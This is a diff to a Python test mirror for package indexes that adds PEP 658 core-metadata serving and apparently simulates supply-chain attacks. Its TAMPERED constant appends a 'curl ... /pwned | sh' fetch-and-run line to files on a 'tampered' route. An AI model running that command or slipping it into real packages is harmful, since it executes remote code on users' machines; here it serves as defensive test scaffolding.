@@ -17,8 +17,11 @@
   wheels added to their projects (a fake ``torch`` of a higher version), projects it lacks (a
   mirror without uv), projects whose files are altered on the way (under their genuine sha256).
 
-Files the mirror fetches from the upstream index are kept under ``upstream/`` (they never change
-there), and ``access.log`` has one line per request with the bytes sent (``bytes_served``).
+Each wheel's link carries its core metadata's sha256 (PEP 658/714), served at the wheel's URL +
+``.metadata``, as PyPI and download.pytorch.org do: a resolver reads a wheel's dependencies
+without downloading the wheel. Files the mirror fetches from the upstream index are kept under
+``upstream/`` (they never change there), and ``access.log`` has one line per request with the
+bytes sent (``bytes_served``).
 """
 
 from __future__ import annotations
@@ -37,6 +40,7 @@ import time
 import urllib.error
 import urllib.parse
 import urllib.request
+import zipfile
 from collections.abc import Iterable
 from functools import cache
 from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
@@ -51,6 +55,7 @@ OLD_GLIBC_INSTALLER = "Miniconda3-py310_23.11.0-2-Linux-x86_64.sh"  # for glibc 
 TORCH_PROJECTS = ("torch", "torchvision", "torchaudio")
 # variant -> (project -> version served), taken from what lies on this machine
 _HASHES: dict[str, str] = {}
+_METADATA: dict[str, str] = {}  # file ref -> sha256 of its core metadata ("": none)
 UPSTREAM = os.environ.get("GPU_SANDBOX_UPSTREAM", "https://pypi.org/simple")
 VARIANTS = {"cpu": {"torch": "2.13.0"}, "cu130": {"torch": "2.14.1", "torchvision": "0.29.1"}}
 TAMPERED = b"\ncurl -s http://127.0.0.1:9/pwned | sh  # added on the way\n"
@@ -139,12 +144,18 @@ class Content:
         except (urllib.error.URLError, TimeoutError):
             return []
         out = []
-        for href in re.findall(r'href="([^"]+)"', body):
-            absolute = urllib.parse.urljoin(url, html.unescape(href))
+        for anchor in re.findall(r"<a\s[^>]*>", body):
+            href = re.search(r'href="([^"]+)"', anchor)
+            if not href:
+                continue
+            absolute = urllib.parse.urljoin(url, html.unescape(href.group(1)))
             file_url, _, frag = absolute.partition("#")
+            ref = f"up/{quote(file_url, safe='')}"
             if frag.startswith("sha256="):
-                _HASHES[f"up/{quote(file_url, safe='')}"] = frag.removeprefix("sha256=")
-            out.append((unquote(file_url.rsplit("/", 1)[-1]), f"up/{quote(file_url, safe='')}"))
+                _HASHES[ref] = frag.removeprefix("sha256=")
+            meta = re.search(r'data-(?:core|dist-info)-metadata="sha256=([0-9a-f]{64})"', anchor)
+            _METADATA[ref] = meta.group(1) if meta else ""
+            out.append((unquote(file_url.rsplit("/", 1)[-1]), ref))
         return out
 
     def upstream_file(self, url: str) -> Path | None:
@@ -164,6 +175,12 @@ class Content:
                 return None
             tmp.rename(path)
         return path
+
+    def overlay_wheel(self, ref: str) -> Path | None:
+        """``overlay:<name>/<wheel>`` -> that overlay's wheel file."""
+        name, _, wheel = ref.removeprefix("overlay:").partition("/")
+        conf = self.overlay(name)
+        return conf["wheels"].get(wheel) if conf else None
 
     def overlay(self, name: str) -> dict[str, Any] | None:
         """An overlay's settings (``overlay()``), None when there is no such overlay."""
@@ -209,8 +226,14 @@ class Content:
         return None
 
 
-def page(title: str, links: list[tuple[str, str]]) -> bytes:
-    body = "\n".join(f'<a href="{html.escape(h)}">{html.escape(t)}</a><br/>' for t, h in links)
+def page(title: str, links: list[tuple[str, str]], metadata: dict[str, str] | None = None
+         ) -> bytes:
+    """A PEP 503 page; ``metadata``: link text -> sha256 of that wheel's core metadata."""
+    def attrs(t: str) -> str:
+        m = (metadata or {}).get(t)
+        return f' data-dist-info-metadata="sha256={m}" data-core-metadata="sha256={m}"' if m else ""
+    body = "\n".join(f'<a href="{html.escape(h)}"{attrs(t)}>{html.escape(t)}</a><br/>'
+                     for t, h in links)
     return (f"<!DOCTYPE html>\n<html><head><meta name=\"pypi:repository-version\" content=\"1.0\">"
             f"<title>{html.escape(title)}</title></head><body>\n{body}\n</body></html>\n").encode()
 
@@ -255,6 +278,35 @@ class Handler(SimpleHTTPRequestHandler):
         path = self.content.upstream_file(url)
         return self.send_file(path) if path else self.send_error(502)
 
+    def metadata(self, ref: str) -> bytes | None:
+        """A wheel's core metadata (its ``*.dist-info/METADATA``), as served at ``.metadata``."""
+        if ref.startswith("up/"):  # only where the upstream page said it has one
+            if not _METADATA.get(ref):
+                return None
+            f = self.content.upstream_file(f"{unquote(ref.removeprefix('up/'))}.metadata")
+            return f.read_bytes() if f else None
+        f = self.content.local_file(ref) if not ref.startswith("overlay:") else \
+            self.content.overlay_wheel(ref)
+        if f is None or not f.name.endswith(".whl"):
+            return None
+        with zipfile.ZipFile(f) as z:
+            name = next((n for n in z.namelist() if re.fullmatch(r"[^/]+\.dist-info/METADATA", n)),
+                        None)
+            return z.read(name) if name else None
+
+    def metadata_hashes(self, links: list[tuple[str, str]]) -> dict[str, str]:
+        """Link text -> sha256 of the core metadata, for the wheels among (name, ref) links."""
+        out = {}
+        for name, ref in links:
+            if not name.endswith(".whl"):
+                continue
+            if ref not in _METADATA:  # files never change while the mirror runs
+                data = self.metadata(ref)
+                _METADATA[ref] = hashlib.sha256(data).hexdigest() if data else ""
+            if _METADATA[ref]:
+                out[name] = _METADATA[ref]
+        return out
+
     def file_of(self, ref: str) -> Path | None:
         """A file ref of the index pages (``0/files/x.whl``, ``links/x.whl``, ``up/<url>``)."""
         if ref.startswith("up/"):
@@ -279,6 +331,10 @@ class Handler(SimpleHTTPRequestHandler):
         wheels: dict[str, Path] = conf["wheels"]
         if rest[:1] == ["files"] and len(rest) == 2 and rest[1] in wheels:
             return self.send_file(wheels[rest[1]])
+        if rest[:1] == ["files"] and len(rest) == 2 and rest[1].removesuffix(".metadata") in wheels:
+            data = self.metadata(f"overlay:{name}/{rest[1].removesuffix('.metadata')}")
+            return self.send_bytes(data, "application/octet-stream") if data \
+                else self.send_error(404)
         if rest[:1] == ["tampered"] and len(rest) >= 2:
             f = self.file_of("/".join(rest[1:]))
             return self.send_bytes(f.read_bytes() + TAMPERED, "application/octet-stream") \
@@ -296,11 +352,16 @@ class Handler(SimpleHTTPRequestHandler):
             return self.send_error(404)
         links = [(w, f"/overlay/{name}/files/{w}#sha256={sha256(wheels[w])}")
                  for w in extra.get(project, [])]
+        meta = self.metadata_hashes([(w, f"overlay:{name}/{w}") for w in extra.get(project, [])])
         local = project in map(norm, self.content.projects())
         files = list(self.content.project_links(project)) if local or not links else []
-        prefix = f"/overlay/{name}/tampered/" if project in conf["tamper"] else "/files/"
-        links += [(n, f"{prefix}{ref}#sha256={self.hash_of(ref)}") for n, ref in files]
-        return self.send_bytes(page(f"Links for {project}", links)) if links \
+        if project in conf["tamper"]:  # no metadata: a client reads the (altered) file itself
+            links += [(n, f"/overlay/{name}/tampered/{ref}#sha256={self.hash_of(ref)}")
+                      for n, ref in files]
+        else:
+            links += [(n, f"/files/{ref}#sha256={self.hash_of(ref)}") for n, ref in files]
+            meta.update(self.metadata_hashes(files))
+        return self.send_bytes(page(f"Links for {project}", links, meta)) if links \
             else self.send_error(404)
 
     def route(self) -> None:  # noqa: C901 - a router
@@ -318,6 +379,13 @@ class Handler(SimpleHTTPRequestHandler):
                 if f.name == "index.html":
                     return self.send_file(f)
                 return self.send_bytes(f.read_bytes() + TAMPERED, "application/octet-stream")
+            if parts[:1] == ["files"] and parts[-1].endswith(".metadata"):
+                ref = "/".join(parts[1:]).removesuffix(".metadata")
+                if parts[1] == "up":  # one %-encoded URL segment, as in the page's link
+                    ref = f"up/{quote(ref.removeprefix('up/'), safe='')}"
+                data = self.metadata(ref)
+                return self.send_bytes(data, "application/octet-stream") if data \
+                    else self.send_error(404)
             if parts[:2] == ["files", "up"] and len(parts) == 3:
                 return self.send_upstream(parts[2])
             if parts[:1] == ["overlay"] and len(parts) >= 3:
@@ -340,7 +408,8 @@ class Handler(SimpleHTTPRequestHandler):
                 if not files:
                     return self.send_error(404)
                 links = [(n, f"/files/{ref}#sha256={self.hash_of(ref)}") for n, ref in files]
-                return self.send_bytes(page(f"Links for {project}", links))
+                return self.send_bytes(page(f"Links for {project}", links,
+                                            self.metadata_hashes(files)))
             if parts[:1] == ["conda"]:
                 return self.send_bytes(b"{}", "application/json")
             if parts[:1] == ["health"]:
